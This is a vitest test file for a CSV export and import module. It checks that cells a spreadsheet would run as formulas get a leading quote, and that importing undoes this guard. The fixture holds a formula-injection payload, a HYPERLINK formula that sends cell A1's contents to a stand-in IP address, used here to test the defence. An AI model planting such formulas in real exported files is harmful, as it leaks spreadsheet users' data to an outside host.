import { describe, expect, it } from 'vitest';
import { exportCsv, importCsv, unguardCell } from '../../src/lib/io/csv.ts';
import { miniRecord } from './fixtures.ts';

describe('CSV export guards against formula injection', () => {
  const rec = miniRecord();
  rec.events[0] = { ...rec.events[0]!, title: '=HYPERLINK("http://198.51.100.7/?"&A1,"click")' };
  const csv = exportCsv(rec);

  it('a title that a spreadsheet would run as a formula is written with a leading quote', () => {
    expect(csv).toContain(`"'=HYPERLINK(""http://198.51.100.7/?""&A1,""click"")"`);
    expect(csv.split('\n').some((line) => /(^|,)=/.test(line))).toBe(false);
  });

  it('numbers (a negative longitude) are left alone', () => {
    const west = miniRecord();
    west.places[0] = { ...west.places[0]!, lon: -77.03 };
    west.events[0] = { ...west.events[0]!, places: [west.places[0]!.id] };
    expect(exportCsv(west)).toContain(',-77.03,');
  });

  it('reading the file back gives the title as it was (the guard is undone)', () => {
    const base = miniRecord();
    base.events = [];
    const r = importCsv(csv, 'events.csv', { base });
    if (!r.ok) throw new Error(JSON.stringify(r.problems));
    expect(r.value.events.map((e) => e.title)).toContain(rec.events[0]!.title);
  });

  it.each([
    ["'=1+1", '=1+1'],
    ["'-0500", '-0500'],
    ["'@cmd", '@cmd'],
    ["'hello", "'hello"],
    ['plain', 'plain'],
  ])('unguardCell(%j) is %j', (cell, out) => expect(unguardCell(cell)).toBe(out));
});
